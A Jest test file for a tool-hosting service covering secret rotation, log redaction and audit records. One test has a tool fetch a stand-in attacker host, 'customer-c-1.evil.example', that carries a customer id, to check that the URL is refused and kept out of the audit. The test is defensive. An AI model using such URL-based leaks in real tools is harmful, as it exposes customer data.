import { describe, expect, test } from '@jest/globals';
import * as z from 'zod';
import { EnvironmentError } from '../../service/environment.ts';
import type { Logger } from '../../service/logging/logger.ts';
import { formatSecretReference, type SecretReference } from '../../service/secrets/reference.ts';
import { SecretError } from '../../service/secrets/sources.ts';
import { defineTool, type ToolStart } from '../../service/tools/definition.ts';
import type { ToolContext } from '../../service/tools/tool.ts';
import { type StartToolOptions, startTool } from '../support/start-tool.ts';
import { answerOf, callOf, startApp } from './support/start-app.ts';

const STORE = 'aws-secretsmanager:orders';
const values = { secrets: { apiKey: STORE } };

/** A logger that keeps its lines as `level event fields`. */
function recorder(): { readonly logger: Logger; readonly lines: string[] } {
  const lines: string[] = [];
  const write = (level: string) => (event: string, fields?: object) =>
    void lines.push(`${level} ${event} ${JSON.stringify(fields)}`);
  return { lines, logger: { info: write('info'), warn: write('warn'), error: write('error') } };
}

/** A store with one secret, which tests change. */
function store(value: string | undefined) {
  const state = { value, clock: 0, reads: 0 };
  const read = async (reference: SecretReference) => {
    state.reads += 1;
    if (state.value === undefined) throw new SecretError(reference, 'ResourceNotFoundException');
    if (state.value === '') throw new SecretError(reference, 'it is empty or not a string');
    if (state.value === 'denied') throw new SecretError(reference, 'AccessDeniedException');
    return `${formatSecretReference(reference)} ${state.value}`;
  };
  return { state, options: { read, now: () => state.clock } };
}

/** A tool whose handler is `use`. */
function toolWith(
  use: (context: ToolContext<unknown, 'apiKey'>) => Promise<string>,
  needs: object = { secrets: ['apiKey'] },
) {
  return defineTool({
    name: 'uses',
    needs: needs as { secrets: readonly ['apiKey'] },
    create: ({ tool }) =>
      tool({
        title: 'Uses',
        description: 'Uses its context, for tests.',
        scopes: ['echo'],
        deadlineMs: 2000,
        input: z.strictObject({ text: z.string().max(100).default('').describe('Text') }),
        handle: async (_input, context) => ({ text: await use(context) }),
      }),
  });
}

/** The tool in the whole pipeline. */
async function running(definition: ReturnType<typeof toolWith>, options: StartToolOptions) {
  const app = await startApp({ tools: [await startTool(definition, options)] });
  const call = async () => {
    const response = await app.post(callOf('uses', {}));
    const { result, error } = await answerOf(response);
    return { status: response.status, text: error?.message ?? result.content[0]?.text };
  };
  return { app, call };
}

describe('a secret of a tool', () => {
  const tells = toolWith(({ secret }) => secret('apiKey'));

  test('that is rotated reaches the next call after a minute, without a restart', async () => {
    const { state, options } = store('first');
    const { app, call } = await running(tells, { values, ...options });
    expect(await call()).toEqual({ status: 200, text: `${STORE} first` });
    state.value = 'second';
    state.clock += 44_000;
    expect(await call()).toEqual({ status: 200, text: `${STORE} first` });
    state.clock += 16_000;
    expect(await call()).toEqual({ status: 200, text: `${STORE} second` });
    await app.stop();
  });

  test('that was refused upstream can be read again at once', async () => {
    const { state, options } = store('first');
    const asks = toolWith(async ({ secret }) => `${await secret('apiKey')}, ${await secret('apiKey', 1000)}`);
    const { app, call } = await running(asks, { values, ...options });
    state.value = 'second';
    state.clock += 2000;
    expect(await call()).toEqual({ status: 200, text: `${STORE} first, ${STORE} second` });
    await app.stop();
  });

  test.each([undefined, ''])(
    'without a value (%j) leaves the service healthy: calls get 503 and the operator two lines, until there is one',
    async (value) => {
      const { state, options } = store(value);
      const { logger, lines } = recorder();
      const { app, call } = await running(tells, { values, ...options, logger });
      expect(lines).toEqual([
        expect.stringMatching(/^warn tool_secret_missing .*"tool":"uses","name":"apiKey"/),
      ]);
      expect(await call()).toEqual({
        status: 503,
        text: 'A dependency of this server is not available; retry in 5 s',
      });
      expect(lines[1]).toMatch(/^warn tool_secret_unavailable .*"requestId":"[0-9a-f-]{36}"/);
      expect((await app.audit())[0]).toMatchObject({
        errorCode: 'secret_unavailable',
        reason: expect.stringContaining(`cannot read secret ${STORE}`),
      });
      state.value = 'first';
      expect(await call()).toEqual({ status: 200, text: `${STORE} first` });
      await app.stop();
    },
  );

  test('that may not be read fails the start with its reference', async () => {
    const { options } = store('denied');
    await expect(startTool(tells, { values, ...options })).rejects.toThrow(
      `cannot read secret ${STORE}: AccessDeniedException`,
    );
    await expect(startTool(tells, { values: { secrets: { apiKey: 'env:ABSENT' } } })).rejects.toThrow(
      'cannot read secret env:ABSENT: it is empty',
    );
  });

  test('that the tool did not name cannot be read', async () => {
    const { options } = store('first');
    const { logger, lines } = recorder();
    const asks = toolWith(({ secret }) => secret('constructor' as 'apiKey'));
    const { app, call } = await running(asks, { values, ...options, logger });
    expect(await call()).toMatchObject({ text: expect.stringMatching(/^The tool failed/) });
    expect(await app.logText()).toContain(
      'the tool uses has no secret constructor; name it in needs.secrets',
    );
    expect(lines).toEqual([]);
    await app.stop();
  });
});

describe('the context of a call', () => {
  test('has the client, the settings and the id of the call, in the audit record too', async () => {
    const settings = z.strictObject({ unit: z.enum(['m', 'ft']).default('m').describe('Unit') });
    const tells = toolWith(
      async ({ requestId, client, user, settings }) => JSON.stringify({ requestId, client, user, settings }),
      { settings },
    );
    const { app, call } = await running(tells, {});
    const told = JSON.parse((await call()).text ?? '');
    const [record] = await app.audit();
    expect(told).toEqual({
      requestId: record?.['requestId'],
      client: { id: 'alice' },
      settings: { unit: 'm' },
    });
    await app.stop();
  });

  test('writes lines of one event with the call’s id, redacted, and at most 100 of them', async () => {
    const { logger, lines } = recorder();
    const logs = toolWith(async ({ log }) => {
      log.error('x'.repeat(300), { event: 'audit_backpressure', requestId: 'forged' });
      for (let i = 0; i < 200; i++) log.info('line', { i });
      return 'done';
    }, {});
    const { app, call } = await running(logs, { logger });
    await call();
    const [record] = await app.audit();
    const [first = '', ...others] = lines;
    expect(first).toMatch(/^error tool_log /);
    expect(JSON.parse(first.slice('error tool_log '.length))).toEqual({
      tool: 'uses',
      requestId: record?.['requestId'],
      message: 'x'.repeat(256),
      fields: { event: 'audit_backpressure', requestId: 'forged' },
    });
    expect(others).toHaveLength(99);
    expect(others.at(-1)).toContain('no more lines of this call');
    await app.stop();
  });
});

describe('the start', () => {
  test('gives a tool what it may use, its settings among them', async () => {
    let start: ToolStart | undefined;
    const plain = toolWith(async () => '', {});
    await startTool({
      ...plain,
      create(given) {
        start = given;
        return plain.create(given);
      },
    });
    expect(Object.keys(start ?? {}).sort()).toEqual([
      'logger',
      'readSecret',
      'scrape',
      'settings',
      'tool',
      'turns',
    ]);
  });

  test('lets the stage replace deadline and limit', async () => {
    const plain = toolWith(async () => '', {});
    expect(await startTool(plain)).toMatchObject({ deadlineMs: 2000, limitPerMinute: undefined });
    expect(await startTool(plain, { values: { deadlineMs: 100, limitPerMinute: 7 } })).toMatchObject({
      deadlineMs: 100,
      limitPerMinute: 7,
    });
  });

  test('fails for a record of an argument that the tool does not have: it would be recorded in full', async () => {
    const start = startTool(toolWith(async () => '', { record: { texd: 'none' } }));
    await expect(start).rejects.toThrow(EnvironmentError);
    await expect(start).rejects.toThrow(
      'uses.needs.record.texd is not an argument of the tool (did you mean text?)',
    );
    expect(await startTool(toolWith(async () => '', { record: { '*': 'none' } }))).toBeDefined();
  });
});

test('a URL that a tool made of a hidden argument is not in the reason why it was refused', async () => {
  const asks = (needs: object) =>
    toolWith(async ({ fetch }) => (await fetch('https://customer-c-1.evil.example/')).text(), needs);
  for (const [needs, said] of [
    [{}, true],
    [{ record: { text: 'hashed' } }, false],
  ] as const) {
    const { app, call } = await running(asks(needs), {});
    await call();
    const [record] = await app.audit();
    expect(record).toMatchObject({ errorCode: 'url_refused' });
    expect([record?.['reason'] !== undefined, app.auditText().includes('c-1')]).toEqual([said, said]);
    await app.stop();
  }
});

test('an error of a tool that hides arguments is logged without its text, which may repeat one', async () => {
  const fails = (needs: object) =>
    toolWith(async () => {
      throw new Error('no order of customer c-1');
    }, needs);
  for (const [needs, said] of [
    [{}, true],
    [{ record: 'hashed' }, false],
    [{ record: { text: 'none' } }, false],
  ] as const) {
    const { app, call } = await running(fails(needs), {});
    await call();
    const log = await app.logText();
    expect(log).toContain('"event":"tool_failed"');
    expect(log.includes('customer c-1')).toBe(said);
    await app.stop();
  }
});
